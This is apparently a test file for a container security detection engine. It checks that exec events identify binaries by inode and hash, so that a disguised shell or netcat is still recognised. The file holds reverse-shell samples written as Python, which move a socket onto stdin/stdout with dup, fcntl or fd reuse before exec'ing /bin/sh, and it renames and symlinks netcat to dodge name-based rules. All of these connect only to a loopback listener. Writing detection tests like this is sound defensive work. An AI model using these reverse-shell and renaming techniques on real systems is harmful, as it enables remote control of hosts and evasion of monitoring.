// Judge the binary, not the name: exec events carry the file the kernel
// ran (device, inode, the probe's sha256 of it) and what fds 0-2 were, so
// a shell copied as python3, netcat copied or symlinked under another
// name, and a program started with a socket on its stdin (put there by
// dup, fcntl F_DUPFD or a socket opened on a free fd 0) are each seen for
// what they are. Each case runs in its own test container; a quiet
// neighbour doing the plain thing raises nothing. Copies and links live in
// a private directory removed at the end.
import { createHash } from 'node:crypto';
import { copyFileSync, mkdtempSync, readFileSync, realpathSync, rmSync, statSync, symlinkSync } from 'node:fs';
import { createServer, type Server, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Alert } from '../../src/model/alert.js';
import { stdioKind, type Event } from '../../src/model/event.js';
import { TestEngine } from '../support/engine.js';
import { describeKernel, TestCgroupTree, waitFor, type TestCgroup } from '../support/kernel.js';
import { own } from '../support/events.js';

const PY = '/usr/bin/python3';
const DASH = realpathSync('/bin/sh');
const NC = realpathSync('/usr/bin/nc');
const STDIO_RULE = 'Program started with a network socket as its standard input or output';

/** The kernel's dev_t of a file's file system, as the probe reports it. */
function kernelDev(path: string): number {
  const d = BigInt(statSync(path).dev);
  const major = Number(((d >> 8n) & 0xfffn) | ((d >> 32n) & ~0xfffn));
  const minor = Number((d & 0xffn) | ((d >> 12n) & ~0xffn));
  return major * 2 ** 20 + minor;
}

describeKernel('exec events name the binary run, not the name it was given', () => {
  let t: TestEngine;
  let tree: TestCgroupTree;
  let dir: string;
  let server: Server;
  let port = 0;
  const peers: Socket[] = [];
  const alerts: Alert[] = [];
  const groups: TestCgroup[] = [];

  beforeAll(async () => {
    tree = new TestCgroupTree();
    for (let i = 0; i < 18; i++) groups.push(tree.group(`ident-${i}`));
    t = await TestEngine.start({ sinks: [] });
    t.engine.onAlert((a) => alerts.push(a));
    await t.startProbe();
    dir = realpathSync(mkdtempSync(join(tmpdir(), 'vigil-ident-')));
    // A loopback listener the reverse shells connect to; it holds each connection open.
    server = createServer((c) => { peers.push(c); c.on('error', () => {}); });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as { port: number }).port;
  });

  afterAll(async () => {
    for (const c of peers) c.destroy();
    server?.close();
    await t?.stop();
    await tree?.remove();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  async function run(cmd: string, args: string[]): Promise<{ g: TestCgroup; exec: Event }> {
    const g = groups.shift()!;
    const r = await g.run(cmd, args);
    const exec = await waitFor(`the exec of ${cmd} in ${g.path}`, () => t.of(g.id, 'exec').find((e) => e.pid === r.pid));
    await waitFor(`the exit of ${cmd} in ${g.path}`, () => t.of(g.id, 'exit').some((e) => e.pid === r.pid));
    return { g, exec };
  }

  function alertFor(rule: string, g: TestCgroup): Promise<Alert> {
    return waitFor(`'${rule}' for ${g.path}`, () => alerts.find((a) => a.rule === rule && a.workload.cgroupPath === g.path));
  }

  async function quiet(rule: string, g: TestCgroup): Promise<void> {
    // The neighbour runs first; its events are in once its exit is, and a rule fires on the exec.
    await new Promise((r) => setTimeout(r, 300));
    expect(alerts.filter((a) => a.rule === rule && a.workload.cgroupPath === g.path)).toEqual([]);
  }

  it('an exec carries the inode, device and sha256 of the file run, and what its stdio is', async () => {
    const { exec } = await run(DASH, ['-c', 'true']);
    expect(exec.path).toBe(DASH);
    expect(exec.ino).toBe(statSync(DASH).ino);
    expect(exec.dev).toBe(kernelDev(DASH));
    expect(own(exec).sha256).toBe(createHash('sha256').update(readFileSync(DASH)).digest('hex'));
    expect(exec.process?.tool).toMatch(/^(sh|dash)$/);
  });

  it('an exec says what its fds 0-2 are', async () => {
    // stdin a file, stdout a directory, stderr closed; then a pipe on stdin.
    const { g } = await run(DASH, ['-c', 'exec /usr/bin/true </etc/hostname 1</ 2>&-']);
    const e = await waitFor('the exec of true', () => t.of(g.id, 'exec').find((x) => x.path === '/usr/bin/true'));
    expect([0, 1, 2].map((fd) => stdioKind(own(e).stdio, fd as 0 | 1 | 2))).toEqual(['file', 'directory', undefined]);
    const { g: g2 } = await run(DASH, ['-c', 'echo | /usr/bin/true']);
    const p = await waitFor('the exec of true in a pipeline', () => t.of(g2.id, 'exec').find((x) => x.path === '/usr/bin/true'));
    expect(stdioKind(own(p).stdio, 0)).toBe('pipe');
  });

  it('a shell copied as python3 is a shell', async () => {
    const { g: neighbour } = await run(PY, ['-c', 'pass']);
    const copy = join(dir, 'python3');
    copyFileSync(DASH, copy);
    const { g, exec } = await run(copy, ['-c', 'true']);
    expect(exec.comm).toBe('python3');
    expect(exec.process?.tool).toMatch(/^(sh|dash)$/);
    const a = await alertFor('Shell spawned in a container', g);
    expect(a.output).toContain(`exe=${copy}`);
    await quiet('Shell spawned in a container', neighbour);
  });

  it('netcat copied under another name is netcat', async () => {
    const copy = join(dir, 'updater');
    copyFileSync(NC, copy);
    const { g, exec } = await run(copy, ['-z', '127.0.0.1', String(port)]);
    expect(exec.comm).toBe('updater');
    expect(exec.process?.tool).toBe('nc');
    await alertFor('Network tool run in a container', g);
  });

  it('netcat symlinked under another name, started to run a program, is netcat with command execution', async () => {
    const link = join(dir, 'healthcheck');
    symlinkSync('/usr/bin/nc', link);
    // nc.openbsd has no -e; the rule reads the command line, and nc exits at once.
    const { g, exec } = await run(link, ['-z', '-c', '127.0.0.1', String(port)]);
    expect(exec.comm).toBe('healthcheck');
    expect(exec.path).toBe(NC);
    await alertFor('Netcat with command execution', g);
  });

  /** A python script that connects to the listener, puts the socket on fd 0 (and 1) by `how`, and execs a shell. */
  function reverseShell(how: string): string[] {
    return ['-c', [
      'import fcntl, os, socket, sys',
      `port = ${port}`,
      how,
      "os.execv('/bin/sh', ['sh', '-c', 'exit 0'])",
    ].join('\n')];
  }

  it('a socket put on stdin with dup() is seen at exec', async () => {
    const { g: neighbour } = await run(PY, reverseShell("s = socket.create_connection(('127.0.0.1', port))"));
    const { g } = await run(PY, reverseShell([
      "s = socket.create_connection(('127.0.0.1', port))",
      'os.close(0); os.dup(s.fileno()); os.set_inheritable(0, True)',
      'os.close(1); os.dup(s.fileno()); os.set_inheritable(1, True)',
    ].join('\n')));
    const a = await alertFor(STDIO_RULE, g);
    expect(a.output).toContain('stdin=ipv4 stdout=ipv4');
    await quiet(STDIO_RULE, neighbour);
  });

  it('a socket put on stdin with fcntl(F_DUPFD) is seen at exec', async () => {
    const { g } = await run(PY, reverseShell([
      "s = socket.create_connection(('127.0.0.1', port))",
      'os.close(0); fcntl.fcntl(s.fileno(), fcntl.F_DUPFD, 0)',
    ].join('\n')));
    const a = await alertFor(STDIO_RULE, g);
    expect(a.output).toContain('stdin=ipv4');
  });

  it('a socket opened on a free fd 0 is seen at exec', async () => {
    const { g } = await run(PY, reverseShell([
      'os.close(0)',
      "s = socket.socket(); s.connect(('127.0.0.1', port))",
      'assert s.fileno() == 0',
      'os.set_inheritable(0, True)',
    ].join('\n')));
    const a = await alertFor(STDIO_RULE, g);
    expect(a.output).toContain('stdin=ipv4');
  });
});
